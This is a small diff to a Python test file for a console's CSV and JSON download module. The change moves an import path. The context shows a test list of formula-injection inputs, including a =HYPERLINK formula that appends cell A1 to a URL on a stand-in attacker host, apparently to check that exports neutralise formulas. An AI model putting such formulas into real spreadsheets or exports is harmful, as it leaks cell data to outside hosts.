@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from orkestr_console.accounts import audit, usage
 from orkestr_console.accounts.actor import Actor
 from orkestr_console.accounts.models import Metric, Team, UsageDay
-from orkestr_console.console.downloads import FORMULA, cell, csv_file, json_lines_file
+from orkestr_console.ui.downloads import FORMULA, cell, csv_file, json_lines_file
 
 FORMULAS = (
     '=HYPERLINK("https://evil.example/?"&A1,"x")',
